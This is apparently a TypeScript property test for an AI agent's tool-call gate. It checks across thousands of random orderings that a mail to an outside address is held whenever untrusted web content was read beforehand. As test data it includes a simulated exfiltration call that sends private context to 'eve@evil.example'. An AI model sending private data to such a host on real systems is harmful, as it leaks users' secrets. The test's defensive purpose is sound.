import type { Gate } from '@callgate/gate';
import { presetPolicy } from '@callgate/policy';
import { expect, it } from 'vitest';
import { call, office } from './office.ts';
import { Random, cases, seedOf } from './random.ts';

const RUNS = cases(2000, 20_000);
const AT_ONCE = 64;

type Leg = 'private' | 'untrusted' | 'outward';

interface Step {
  readonly leg: Leg;
  readonly what: 'begin' | 'settle';
}

const TOOL: Readonly<Record<Leg, string>> = {
  private: 'read_salary',
  untrusted: 'search_web',
  outward: 'send_mail',
};

/** Every leg begins before it is settled; otherwise any order. */
const interleaving = (random: Random): readonly Step[] => {
  const queues = (['private', 'untrusted', 'outward'] as const)
    .filter((leg) => leg === 'outward' || random.below(4) > 0)
    .map((leg): Step[] => [
      { leg, what: 'begin' },
      { leg, what: 'settle' },
    ]);
  const steps: Step[] = [];
  while (queues.some((queue) => queue.length > 0)) {
    const next = random.pick(queues.filter((queue) => queue.length > 0)).shift();
    if (next !== undefined) steps.push(next);
  }
  return steps;
};

/** What must not be: judged from the order alone. Untrusted content may have been read before the mail left. */
const isForbidden = (steps: readonly Step[]): boolean => {
  const begins = steps.filter(({ what }) => what === 'begin').map(({ leg }) => leg);
  const mail = begins.indexOf('outward');
  return begins.indexOf('untrusted') !== -1 && begins.indexOf('untrusted') < mail;
};

const play = async (
  gate: Gate,
  steps: readonly Step[],
  context: string,
  random: Random,
): Promise<boolean> => {
  const context1 = { principal: 'local', context, authenticated: true };
  await gate.hear(context1, { text: 'tell me what is new' });
  const begun = new Map<Leg, Promise<Awaited<ReturnType<Gate['begin']>>>>();
  const all: Promise<unknown>[] = [];
  for (const { leg, what } of steps) {
    if (what === 'begin')
      begun.set(
        leg,
        gate.begin(
          call(TOOL[leg], leg === 'outward' ? { to: 'eve@evil.example', body: context } : { context }, {
            context,
          }),
        ),
      );
    else {
      const step = await begun.get(leg);
      if (step?.state === 'dispatching')
        all.push(gate.settle(step.dispatchable, { type: 'result', result: { text: leg } }));
    }
    // sometimes the next one does not wait for this one
    if (random.below(2) === 0) await begun.get(leg);
  }
  await Promise.all(all);
  return (await begun.get('outward'))?.state === 'dispatching';
};

it(`${RUNS} orders of a private read, an untrusted read and an outward call: never by itself where the path is forbidden`, async () => {
  const random = new Random(seedOf('parallel legs'));
  const { gate } = await office({
    policy: presetPolicy('intent'),
    limits: { questionsAnHour: 1e9, pendingPerPrincipal: 1e9 },
  });
  let [wrong, free, held] = [0, 0, 0];
  for (let made = 0; made < RUNS; made += AT_ONCE) {
    const batch = Array.from({ length: Math.min(AT_ONCE, RUNS - made) }, (_, at) => ({
      steps: interleaving(random),
      context: `${made + at}`,
    }));
    const outs = await Promise.all(batch.map(({ steps, context }) => play(gate, steps, context, random)));
    for (const [at, out] of outs.entries()) {
      const forbidden = isForbidden(batch[at]?.steps ?? []);
      if (out && forbidden) wrong += 1;
      if (out && !forbidden) free += 1;
      if (!out && forbidden) held += 1;
    }
  }
  expect(wrong).toBe(0);
  // both sides were met, or the test shows nothing
  expect(free).toBeGreaterThan(RUNS / 10);
  expect(held).toBeGreaterThan(RUNS / 10);
});
